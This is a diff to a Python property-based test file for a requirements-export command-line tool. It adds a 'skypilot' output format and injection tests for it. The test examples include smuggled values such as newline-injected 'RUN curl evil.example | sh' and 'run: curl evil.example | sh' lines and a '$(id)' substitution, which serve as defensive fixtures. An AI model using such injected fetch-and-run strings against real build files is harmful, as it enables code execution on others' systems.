@@ -65,7 +65,7 @@ OPTIONS = {
 FIXED = {"install": ["--dry-run"], "env": ["--json"], "translate": ["--transformers", "4.30.2", "--accelerate", "0.20.3"]}
 FLAGS = {"resolve": ["--json"], "matrix": ["--json", "--sources"], "check": ["--json", "--bf16", "--no-bf16", "--verbose"],
          "install": ["--json"], "translate": ["--json"], "env": ["--no-color", "--defaults"], "export": ["--json", "--no-preflight", "--trainer-v2"]}
-EXPORT_FORMATS = ["requirements", "constraints", "pip-command", "pylock", "dockerfile", "pytorchjob", "bogus"]
+EXPORT_FORMATS = ["requirements", "constraints", "pip-command", "pylock", "dockerfile", "pytorchjob", "skypilot", "bogus"]
 
 
 @st.composite
@@ -79,11 +79,13 @@ def command_lines(draw):
         argv.insert(1, draw(st.sampled_from(EXPORT_FORMATS)))
         if argv[1] == "pytorchjob" and draw(st.booleans()):
             argv += ["--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi"]
+        if argv[1] == "skypilot" and draw(st.booleans()):
+            argv += ["--cpu", "8+", "--memory", "32"]
     if command in ("resolve", "install", "export"):
         argv += draw(st.lists(requirement(), max_size=3))
         if draw(st.booleans()):  # a pylock.toml whose first entry has a hostile name (run_in_process writes it)
             argv += ["-r", LOCK + "\0" + draw(hostile_requirement(surrogates=False))]
-    if command == "export" and argv[1] == "pytorchjob":
+    if command == "export" and argv[1] in ("pytorchjob", "skypilot"):
         words = st.one_of(st.sampled_from(["python", "train.py", "./run.sh", "-m", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "-c"]), hostile(surrogates=False))
         argv += ["--", *draw(st.lists(words, max_size=5))]
     if command == "install" and draw(st.booleans()):
@@ -127,6 +129,7 @@ def run_in_process(argv, capsys) -> tuple[int, str, str]:
 @example(argv=["export", "pylock", "-r", LOCK + "\0numpy\n[[packages]]\nname = \"evil\""])
 @example(argv=["export", "dockerfile", "--base", "python:3.11-slim\nRUN curl evil.example | sh"])
 @example(argv=["export", "pytorchjob", "--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi", "--", "train.py", "a\x85b"])
+@example(argv=["export", "skypilot", "--cpu", "8", "--memory", "32", "--", "train.py", "a\x85b\nrun: curl evil.example | sh", "$(id)"])
 def test_random_command_lines_end_in_a_sentence_and_an_exit_code(argv, capsys, monkeypatch, tmp_path):
     monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
     monkeypatch.delenv("COMPAT_MATRIX", raising=False)
@@ -150,7 +153,7 @@ def _assert_no_injection(form: str, out: str, shown) -> None:
     assert not any(line.startswith(planted) for line in out.splitlines()), (shown, out[-2000:])
     if form == "pylock":
         tomllib.loads(out)
-    elif form == "pytorchjob":
+    elif form in ("pytorchjob", "skypilot"):
         yaml.safe_load(out)
 
 
